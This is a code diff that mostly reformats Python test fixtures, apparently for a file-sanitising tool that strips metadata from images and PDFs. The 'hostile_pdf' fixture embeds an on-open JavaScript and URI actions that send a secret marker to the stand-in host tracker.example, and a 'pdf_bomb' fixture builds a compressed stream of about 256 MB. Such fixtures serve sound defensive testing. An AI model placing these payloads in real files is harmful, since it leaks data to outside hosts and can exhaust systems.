@@ -42,8 +42,7 @@ def picture(size=(64, 48), mode="RGB") -> Image.Image:
 
 def jpeg(orientation=None, size=(64, 48)) -> bytes:
     out = io.BytesIO()
-    picture(size).save(out, "JPEG", exif=exif(orientation), icc_profile=icc(), comment=SECRET_TEXT.encode(),
-                       xmp=XMP)
+    picture(size).save(out, "JPEG", exif=exif(orientation), icc_profile=icc(), comment=SECRET_TEXT.encode(), xmp=XMP)
     return out.getvalue()
 
 
@@ -66,8 +65,9 @@ def webp() -> bytes:
 def gif(frames=1) -> bytes:
     images = [picture().rotate(i * 90).convert("P") for i in range(frames)]
     out = io.BytesIO()
-    images[0].save(out, "GIF", save_all=frames > 1, append_images=images[1:], duration=120, loop=0,
-                   comment=SECRET_TEXT.encode())
+    images[0].save(
+        out, "GIF", save_all=frames > 1, append_images=images[1:], duration=120, loop=0, comment=SECRET_TEXT.encode()
+    )
     return out.getvalue()
 
 
@@ -121,15 +121,21 @@ def _page_content(font_size: int = 10, with_photo: bool = True) -> bytes:
 def text_pdf(pages: int = 1, font_size: int = 10, with_photo: bool = False, **save_options) -> bytes:
     """A plain document of text pages (A4-ish, 595×842 points)."""
     document = pikepdf.new()
-    font = document.make_indirect(pikepdf.Dictionary(
-        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica))
+    font = document.make_indirect(
+        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
+    )
     for _ in range(pages):
         resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
         if with_photo:
             resources.XObject = pikepdf.Dictionary(Im1=_photo_xobject(document))  # exiftool -ee reads "Im<n>"
-        page = pikepdf.Page(pikepdf.Dictionary(
-            Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842], Resources=resources,
-            Contents=document.make_stream(_page_content(font_size, with_photo))))
+        page = pikepdf.Page(
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Page,
+                MediaBox=[0, 0, 595, 842],
+                Resources=resources,
+                Contents=document.make_stream(_page_content(font_size, with_photo)),
+            )
+        )
         document.pages.append(page)
     out = io.BytesIO()
     document.save(out, **save_options)
@@ -155,22 +161,42 @@ def hostile_pdf() -> bytes:
     document = pikepdf.open(io.BytesIO(text_pdf(with_photo=True)))
     page = document.pages[0]
     secret = pikepdf.String(SECRET_TEXT)
-    page.obj.PieceInfo = pikepdf.Dictionary(Photoshop=pikepdf.Dictionary(
-        LastModified=secret, Private=document.make_stream(b"8BIM\x04\x04 IPTC By-line " + SECRET_TEXT.encode())))
+    page.obj.PieceInfo = pikepdf.Dictionary(
+        Photoshop=pikepdf.Dictionary(
+            LastModified=secret, Private=document.make_stream(b"8BIM\x04\x04 IPTC By-line " + SECRET_TEXT.encode())
+        )
+    )
     page.obj.Thumb = _photo_xobject(document)
-    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"https://tracker.example/{SECRET_TEXT}"))
-    javascript = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=f"app.launchURL('https://tracker.example/{SECRET_TEXT}');")
+    page.obj.AA = pikepdf.Dictionary(
+        O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"https://tracker.example/{SECRET_TEXT}")
+    )
+    javascript = pikepdf.Dictionary(
+        S=pikepdf.Name.JavaScript, JS=f"app.launchURL('https://tracker.example/{SECRET_TEXT}');"
+    )
     document.Root.OpenAction = document.make_indirect(javascript)
     attached = pikepdf.AttachedFileSpec(document, SECRET_TEXT.encode() * 3, mime_type="text/plain")
     document.attachments["notes.txt"] = attached
     document.Root.Names.JavaScript = pikepdf.Dictionary(Names=["hello", document.make_indirect(javascript)])
-    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[300, 760, 320, 780],
-                              T=secret, Contents=secret)
-    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[40, 700, 555, 740],
-                              A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"https://tracker.example/{SECRET_TEXT}"))
-    field = document.make_indirect(pikepdf.Dictionary(
-        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("name"), V=secret,
-        Rect=[300, 100, 500, 120], P=page.obj))
+    note = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[300, 760, 320, 780], T=secret, Contents=secret
+    )
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=[40, 700, 555, 740],
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=f"https://tracker.example/{SECRET_TEXT}"),
+    )
+    field = document.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Widget,
+            FT=pikepdf.Name.Tx,
+            T=pikepdf.String("name"),
+            V=secret,
+            Rect=[300, 100, 500, 120],
+            P=page.obj,
+        )
+    )
     page.obj.Annots = document.make_indirect([document.make_indirect(note), document.make_indirect(link), field])
     document.Root.AcroForm = pikepdf.Dictionary(Fields=[field], NeedAppearances=True)
     document.docinfo["/Author"] = SECRET_TEXT
@@ -183,8 +209,11 @@ def hostile_pdf() -> bytes:
 
 def encrypted_pdf(user_password: str = "", owner_password: str = "owner-only-secret") -> bytes:
     """Encrypted with an owner password (printing and copying restricted), and a user password if given."""
-    return text_pdf(encryption=pikepdf.Encryption(owner=owner_password, user=user_password,
-                                                  allow=pikepdf.Permissions(extract=False, modify_other=False)))
+    return text_pdf(
+        encryption=pikepdf.Encryption(
+            owner=owner_password, user=user_password, allow=pikepdf.Permissions(extract=False, modify_other=False)
+        )
+    )
 
 
 def empty_pdf() -> bytes:
@@ -200,8 +229,13 @@ def pdf_bomb(megabytes: int = 256) -> bytes:
     operators = b"0 0 m 100 100 l S\n" * (megabytes * 2**20 // 18)
     stream = pikepdf.Stream(document, zlib.compress(operators, 9))
     stream.Filter = pikepdf.Name.FlateDecode
-    document.pages.append(pikepdf.Page(pikepdf.Dictionary(
-        Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842], Contents=document.make_indirect(stream))))
+    document.pages.append(
+        pikepdf.Page(
+            pikepdf.Dictionary(
+                Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842], Contents=document.make_indirect(stream)
+            )
+        )
+    )
     out = io.BytesIO()
     document.save(out, compress_streams=False)
     return out.getvalue()
@@ -222,6 +256,14 @@ def tiff(pages: int = 1) -> bytes:
     frames = [picture().rotate(180 * i) for i in range(pages)]
     out = io.BytesIO()
     tags = {315: SECRET_TEXT, 305: SECRET_TEXT, 270: SECRET_TEXT, 700: XMP}  # Artist, Software, ImageDescription
-    frames[0].save(out, "TIFF", save_all=pages > 1, append_images=frames[1:], tiffinfo=tags, exif=exif(),
-                   icc_profile=icc(), compression="tiff_deflate")
+    frames[0].save(
+        out,
+        "TIFF",
+        save_all=pages > 1,
+        append_images=frames[1:],
+        tiffinfo=tags,
+        exif=exif(),
+        icc_profile=icc(),
+        compression="tiff_deflate",
+    )
     return out.getvalue()
